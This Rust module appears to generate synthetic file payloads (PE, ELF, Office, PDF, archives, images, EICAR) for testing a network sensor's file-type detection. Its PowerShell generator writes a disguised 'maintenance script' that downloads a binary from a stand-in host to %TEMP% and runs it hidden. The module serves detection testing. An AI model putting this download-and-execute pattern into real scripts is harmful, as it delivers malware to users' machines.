//! Real-shaped file payloads made by the generator: PE exe/dll, ELF, PDF, zip, docx, xlsm, OLE2
//! doc, gzip, PowerShell, EICAR, HTML, text, PNG. Deterministic from a seed.

use crate::Rng;
use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};
use flate2::{Compression, Crc};
use std::io::Write;

pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// What a payload is, and what the sensor's content detection must call it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    Exe,
    Dll,
    Elf,
    Pdf,
    Zip,
    Docx,
    Xlsm,
    Doc,
    Gzip,
    Ps1,
    Eicar,
    Html,
    Text,
    Png,
}

impl Kind {
    /// (`fileinfo.type`, `fileinfo.category`) as EVENTS.md names them.
    pub fn type_category(self) -> (&'static str, &'static str) {
        match self {
            Kind::Exe => ("exe", "executable"),
            Kind::Dll => ("dll", "executable"),
            Kind::Elf => ("elf", "executable"),
            Kind::Pdf => ("pdf", "document"),
            Kind::Zip => ("zip", "archive"),
            Kind::Docx => ("docx", "document"),
            Kind::Xlsm => ("xlsm", "document"),
            Kind::Doc => ("doc", "document"),
            Kind::Gzip => ("gzip", "archive"),
            Kind::Ps1 => ("script", "script"),
            Kind::Eicar => ("text", "other"),
            Kind::Html => ("html", "other"),
            Kind::Text => ("text", "other"),
            Kind::Png => ("image", "other"),
        }
    }
}

/// Makes a payload of `kind`, about `size` bytes (some kinds have a minimum or exact size).
pub fn make(kind: Kind, size: usize, rng: &mut Rng) -> Vec<u8> {
    match kind {
        Kind::Exe => pe(false, size, rng),
        Kind::Dll => pe(true, size, rng),
        Kind::Elf => elf(size, rng),
        Kind::Pdf => pdf(size, rng),
        Kind::Zip => {
            let a = text(size / 2, rng);
            let b = rng.bytes(size / 2);
            zip(&[("readme.txt", &a, true), ("data/blob.bin", &b, false)])
        }
        Kind::Docx => docx(size, rng),
        Kind::Xlsm => xlsm(size, rng),
        Kind::Doc => ole2_doc(size, rng),
        Kind::Gzip => gzip(&text(size, rng)),
        Kind::Ps1 => ps1(size, rng),
        Kind::Eicar => EICAR.to_vec(),
        Kind::Html => html(size, rng),
        Kind::Text => text(size, rng),
        Kind::Png => png(size, rng),
    }
}

fn pe(dll: bool, size: usize, rng: &mut Rng) -> Vec<u8> {
    let size = size.max(1024);
    let mut b = vec![0u8; 0x200];
    b[0] = b'M';
    b[1] = b'Z';
    b[2..4].copy_from_slice(&0x90u16.to_le_bytes());
    b[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    let stub = b"This program cannot be run in DOS mode.\r\r\n$";
    b[0x4e..0x4e + stub.len()].copy_from_slice(stub);
    let pe = 0x80;
    b[pe..pe + 4].copy_from_slice(b"PE\0\0");
    let coff = pe + 4;
    b[coff..coff + 2].copy_from_slice(&0x8664u16.to_le_bytes()); // machine amd64
    b[coff + 2..coff + 4].copy_from_slice(&1u16.to_le_bytes()); // sections
    b[coff + 4..coff + 8].copy_from_slice(&0x6770_0000u32.to_le_bytes()); // timestamp
    b[coff + 16..coff + 18].copy_from_slice(&0xf0u16.to_le_bytes()); // optional header size
    let ch: u16 = 0x0002 | 0x0020 | if dll { 0x2000 } else { 0 };
    b[coff + 18..coff + 20].copy_from_slice(&ch.to_le_bytes());
    let opt = coff + 20;
    b[opt..opt + 2].copy_from_slice(&0x20bu16.to_le_bytes()); // PE32+
    b[opt + 16..opt + 20].copy_from_slice(&0x1000u32.to_le_bytes()); // entry point
    b[opt + 24..opt + 32].copy_from_slice(&0x1_4000_0000u64.to_le_bytes()); // image base
    b[opt + 32..opt + 36].copy_from_slice(&0x1000u32.to_le_bytes()); // section alignment
    b[opt + 36..opt + 40].copy_from_slice(&0x200u32.to_le_bytes()); // file alignment
    b[opt + 68..opt + 70].copy_from_slice(&(if dll { 2u16 } else { 3u16 }).to_le_bytes()); // subsystem
    b[opt + 108..opt + 112].copy_from_slice(&16u32.to_le_bytes()); // data directories
    let sec = opt + 0xf0;
    b[sec..sec + 5].copy_from_slice(b".text");
    let raw = (size - 0x200) as u32;
    b[sec + 8..sec + 12].copy_from_slice(&raw.to_le_bytes());
    b[sec + 12..sec + 16].copy_from_slice(&0x1000u32.to_le_bytes());
    b[sec + 16..sec + 20].copy_from_slice(&raw.to_le_bytes());
    b[sec + 20..sec + 24].copy_from_slice(&0x200u32.to_le_bytes());
    b[sec + 36..sec + 40].copy_from_slice(&0x6000_0020u32.to_le_bytes());
    b.extend(rng.bytes(size - 0x200));
    b
}

fn elf(size: usize, rng: &mut Rng) -> Vec<u8> {
    let size = size.max(256);
    let mut b = vec![0u8; 64];
    b[0..4].copy_from_slice(b"\x7fELF");
    b[4] = 2; // 64-bit
    b[5] = 1; // little endian
    b[6] = 1;
    b[16..18].copy_from_slice(&2u16.to_le_bytes()); // ET_EXEC
    b[18..20].copy_from_slice(&0x3eu16.to_le_bytes()); // x86-64
    b[20..24].copy_from_slice(&1u32.to_le_bytes());
    b[24..32].copy_from_slice(&0x401000u64.to_le_bytes());
    b[52..54].copy_from_slice(&64u16.to_le_bytes());
    b.extend(rng.bytes(size - 64));
    b
}

fn pdf(size: usize, rng: &mut Rng) -> Vec<u8> {
    let mut b = Vec::new();
    b.extend_from_slice(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
    b.extend_from_slice(b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
    b.extend_from_slice(b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
    b.extend_from_slice(b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n");
    let body = rng.bytes(size.saturating_sub(400).max(64));
    b.extend_from_slice(
        format!(
            "4 0 obj\n<< /Length {} /Filter /FlateDecode >>\nstream\n",
            body.len()
        )
        .as_bytes(),
    );
    b.extend_from_slice(&body);
    b.extend_from_slice(b"\nendstream\nendobj\nxref\n0 5\n0000000000 65535 f \ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n0\n%%EOF\n");
    b
}

/// A zip archive; each member is deflated when `deflate` is true, else stored.
pub fn zip(members: &[(&str, &[u8], bool)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, data, deflate) in members {
        let mut crc = Crc::new();
        crc.update(data);
        let (method, comp): (u16, Vec<u8>) = if *deflate {
            let mut e = DeflateEncoder::new(Vec::new(), Compression::new(6));
            e.write_all(data).expect("vec write");
            (8, e.finish().expect("vec write"))
        } else {
            (0, data.to_vec())
        };
        let off = out.len() as u32;
        let mut h = Vec::new();
        h.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        h.extend_from_slice(&20u16.to_le_bytes());
        h.extend_from_slice(&0u16.to_le_bytes());
        h.extend_from_slice(&method.to_le_bytes());
        h.extend_from_slice(&0x5000u16.to_le_bytes()); // 10:00
        h.extend_from_slice(&0x5d81u16.to_le_bytes()); // 2026-12-01
        h.extend_from_slice(&crc.sum().to_le_bytes());
        h.extend_from_slice(&(comp.len() as u32).to_le_bytes());
        h.extend_from_slice(&(data.len() as u32).to_le_bytes());
        h.extend_from_slice(&(name.len() as u16).to_le_bytes());
        h.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&h);
        out.extend_from_slice(name.as_bytes());
        out.extend_from_slice(&comp);
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&20u16.to_le_bytes());
        central.extend_from_slice(&h[4..30]);
        central.extend_from_slice(&[0u8; 12]); // comment len, disk, attrs
        central.extend_from_slice(&off.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
    }
    let cd_off = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0u8; 4]);
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(members.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_off.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

fn docx(size: usize, rng: &mut Rng) -> Vec<u8> {
    let ct = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;
    let rels = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
    let mut doc = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>"#.to_vec();
    doc.extend(text(size, rng));
    doc.extend_from_slice(b"</w:t></w:r></w:p></w:body></w:document>");
    let img = rng.bytes(size / 2);
    zip(&[
        ("[Content_Types].xml", ct, true),
        ("_rels/.rels", rels, true),
        ("word/document.xml", &doc, true),
        ("word/media/image1.bin", &img, false),
    ])
}

fn xlsm(size: usize, rng: &mut Rng) -> Vec<u8> {
    let ct = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>"#;
    let wb = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>"#;
    let mut vba = ole2_header_only();
    vba.extend(rng.bytes(size.max(2048)));
    zip(&[
        ("[Content_Types].xml", ct, true),
        ("xl/workbook.xml", wb, true),
        ("xl/vbaProject.bin", &vba, false),
    ])
}

fn ole2_header_only() -> Vec<u8> {
    let mut h = vec![0u8; 512];
    h[0..8].copy_from_slice(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    h
}

/// An OLE2 compound file (CFB v3, 512-byte sectors) with a "WordDocument" stream.
fn ole2_doc(size: usize, rng: &mut Rng) -> Vec<u8> {
    let nsec = size.max(4096).div_ceil(512); // stream sectors, >= 4096 bytes (not in mini stream)
    let nsec = nsec.min(120); // one FAT sector holds 128 entries: 2 + 120 fits
    let stream_len = nsec * 512;
    let mut h = ole2_header_only();
    h[0x18..0x1a].copy_from_slice(&0x3eu16.to_le_bytes());
    h[0x1a..0x1c].copy_from_slice(&3u16.to_le_bytes());
    h[0x1c..0x1e].copy_from_slice(&0xfffeu16.to_le_bytes());
    h[0x1e..0x20].copy_from_slice(&9u16.to_le_bytes());
    h[0x20..0x22].copy_from_slice(&6u16.to_le_bytes());
    h[0x2c..0x30].copy_from_slice(&1u32.to_le_bytes()); // FAT sectors
    h[0x30..0x34].copy_from_slice(&1u32.to_le_bytes()); // first directory sector
    h[0x38..0x3c].copy_from_slice(&4096u32.to_le_bytes());
    h[0x3c..0x40].copy_from_slice(&0xffff_fffeu32.to_le_bytes()); // no mini FAT
    h[0x44..0x48].copy_from_slice(&0xffff_fffeu32.to_le_bytes()); // no DIFAT sectors
    for i in 0..109 {
        let v: u32 = if i == 0 { 0 } else { 0xffff_ffff };
        h[0x4c + i * 4..0x50 + i * 4].copy_from_slice(&v.to_le_bytes());
    }
    // Sector 0: FAT.
    let mut fat = vec![0xffu8; 512];
    let mut set = |i: usize, v: u32| fat[i * 4..i * 4 + 4].copy_from_slice(&v.to_le_bytes());
    set(0, 0xffff_fffd);
    set(1, 0xffff_fffe);
    for s in 0..nsec {
        let sec = 2 + s;
        set(
            sec,
            if s + 1 == nsec {
                0xffff_fffe
            } else {
                (sec + 1) as u32
            },
        );
    }
    // Sector 1: directory (4 entries of 128 bytes).
    let mut dir = vec![0u8; 512];
    let entry =
        |dir: &mut Vec<u8>, idx: usize, name: &str, typ: u8, start: u32, len: u32, child: u32| {
            let e = &mut dir[idx * 128..idx * 128 + 128];
            let mut n = 0;
            for (i, c) in name.encode_utf16().enumerate() {
                e[i * 2..i * 2 + 2].copy_from_slice(&c.to_le_bytes());
                n = i + 1;
            }
            e[64..66].copy_from_slice(&(((n + 1) * 2) as u16).to_le_bytes());
            e[66] = typ;
            e[67] = 1; // black
            e[68..72].copy_from_slice(&0xffff_ffffu32.to_le_bytes());
            e[72..76].copy_from_slice(&0xffff_ffffu32.to_le_bytes());
            e[76..80].copy_from_slice(&child.to_le_bytes());
            e[116..120].copy_from_slice(&start.to_le_bytes());
            e[120..124].copy_from_slice(&len.to_le_bytes());
        };
    entry(&mut dir, 0, "Root Entry", 5, 0xffff_fffe, 0, 1);
    entry(
        &mut dir,
        1,
        "WordDocument",
        2,
        2,
        stream_len as u32,
        0xffff_ffff,
    );
    for idx in 2..4 {
        let e = &mut dir[idx * 128..idx * 128 + 128];
        e[68..80].copy_from_slice(&[0xff; 12]);
    }
    let mut stream = rng.bytes(stream_len);
    stream[0..2].copy_from_slice(&0xa5ecu16.to_le_bytes()); // FIB magic
    stream[2..4].copy_from_slice(&0x00c1u16.to_le_bytes());
    let mut out = h;
    out.extend(fat);
    out.extend(dir);
    out.extend(stream);
    out
}

pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::new(6));
    e.write_all(data).expect("vec write");
    e.finish().expect("vec write")
}

/// zlib-wrapped deflate (HTTP `Content-Encoding: deflate`).
pub fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = ZlibEncoder::new(Vec::new(), Compression::new(6));
    e.write_all(data).expect("vec write");
    e.finish().expect("vec write")
}

fn ps1(size: usize, rng: &mut Rng) -> Vec<u8> {
    let mut b =
        b"#!/usr/bin/env pwsh\r\n# Maintenance script\r\n$ErrorActionPreference = 'Stop'\r\n"
            .to_vec();
    b.extend_from_slice(
        b"$u = 'http://203.0.113.7/payload.bin'\r\n$p = \"$env:TEMP\\update.exe\"\r\n",
    );
    b.extend_from_slice(b"Invoke-WebRequest -Uri $u -OutFile $p\r\nStart-Process -FilePath $p -WindowStyle Hidden\r\n");
    while b.len() < size {
        let n = rng.below(1_000_000);
        b.extend_from_slice(format!("Write-Output \"step {n}\" | Out-Null\r\n").as_bytes());
    }
    b
}

const WORDS: &[&str] = &[
    "the",
    "sensor",
    "rebuilds",
    "files",
    "from",
    "traffic",
    "and",
    "hashes",
    "them",
    "quarterly",
    "report",
    "invoice",
    "attached",
    "please",
    "find",
    "network",
    "meeting",
    "review",
    "budget",
    "résumé",
    "déjà",
    "vu",
];

/// Plain text with CRLF lines, some long, some with '=' (for quoted-printable).
pub fn text(size: usize, rng: &mut Rng) -> Vec<u8> {
    let mut b = Vec::with_capacity(size + 100);
    let mut col = 0;
    while b.len() < size {
        let w = WORDS[rng.below(WORDS.len() as u64) as usize];
        b.extend_from_slice(w.as_bytes());
        col += w.len() + 1;
        let r = rng.below(40);
        if r == 0 {
            b.extend_from_slice(b" a=b");
        }
        if col > 60 + rng.below(40) as usize {
            b.extend_from_slice(b"\r\n");
            col = 0;
        } else {
            b.push(b' ');
        }
    }
    b.extend_from_slice(b"\r\n");
    b
}

fn html(size: usize, rng: &mut Rng) -> Vec<u8> {
    let mut b = b"<!DOCTYPE html>\n<html><head><title>Welcome</title></head><body>\n".to_vec();
    while b.len() < size {
        b.extend_from_slice(b"<p>");
        b.extend(text(200, rng));
        b.extend_from_slice(b"</p>\n");
    }
    b.extend_from_slice(b"</body></html>\n");
    b
}

fn png_chunk(out: &mut Vec<u8>, typ: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&(data.len() as u32).to_be_bytes());
    let mut crc = Crc::new();
    crc.update(typ);
    crc.update(data);
    out.extend_from_slice(typ);
    out.extend_from_slice(data);
    out.extend_from_slice(&crc.sum().to_be_bytes());
}

fn png(size: usize, rng: &mut Rng) -> Vec<u8> {
    let w: u32 = 64;
    let h: u32 = ((size / 200).max(4)) as u32;
    let mut raw = Vec::new();
    for _ in 0..h {
        raw.push(0);
        raw.extend(rng.bytes(w as usize * 3));
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&w.to_be_bytes());
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    png_chunk(&mut out, b"IHDR", &ihdr);
    png_chunk(&mut out, b"IDAT", &zlib(&raw));
    png_chunk(&mut out, b"IEND", &[]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes() {
        let mut r = Rng::new(3);
        let exe = make(Kind::Exe, 5000, &mut r);
        let dll = make(Kind::Dll, 5000, &mut r);
        assert_eq!(&exe[..2], b"MZ");
        assert_eq!(&exe[0x80..0x84], b"PE\0\0");
        let ch = |b: &[u8]| u16::from_le_bytes([b[0x96], b[0x97]]);
        assert_eq!(ch(&exe) & 0x2000, 0);
        assert_ne!(ch(&dll) & 0x2000, 0);
        assert_eq!(exe.len(), 5000);
        assert_eq!(&make(Kind::Elf, 300, &mut r)[..4], b"\x7fELF");
        assert!(make(Kind::Pdf, 3000, &mut r).starts_with(b"%PDF-"));
        let docx = make(Kind::Docx, 3000, &mut r);
        assert!(docx.starts_with(b"PK\x03\x04"));
        assert!(memchr::memmem::find(&docx, b"word/document.xml").is_some());
        assert!(
            memchr::memmem::find(&make(Kind::Xlsm, 3000, &mut r), b"xl/vbaProject.bin").is_some()
        );
        let doc = make(Kind::Doc, 3000, &mut r);
        assert!(doc.starts_with(&[0xd0, 0xcf, 0x11, 0xe0]));
        let name: Vec<u8> = "WordDocument"
            .encode_utf16()
            .flat_map(|c| c.to_le_bytes())
            .collect();
        assert!(memchr::memmem::find(&doc, &name).is_some());
        assert_eq!(EICAR.len(), 68);
        assert!(make(Kind::Png, 1000, &mut r).starts_with(b"\x89PNG\r\n\x1a\n"));
        let gz = make(Kind::Gzip, 1000, &mut r);
        assert_eq!(&gz[..2], &[0x1f, 0x8b]);
    }

    #[test]
    fn zip_is_readable() {
        // Central directory offset in the end record points at a central header.
        let z = zip(&[
            ("a.txt", b"hello hello hello", true),
            ("b.bin", b"\x00\x01", false),
        ]);
        let eocd = z.len() - 22;
        assert_eq!(&z[eocd..eocd + 4], b"PK\x05\x06");
        let off = u32::from_le_bytes(z[eocd + 16..eocd + 20].try_into().unwrap()) as usize;
        assert_eq!(&z[off..off + 4], b"PK\x01\x02");
    }
}
